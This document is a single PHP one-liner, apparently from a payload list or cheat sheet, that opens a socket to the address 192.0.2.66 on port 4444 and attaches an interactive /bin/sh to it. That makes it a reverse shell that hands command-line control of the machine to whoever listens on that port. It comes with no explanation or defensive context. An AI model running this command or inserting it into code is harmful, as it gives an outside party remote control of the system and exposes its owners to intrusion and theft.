php -r '$sock=fsockopen("192.0.2.66",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
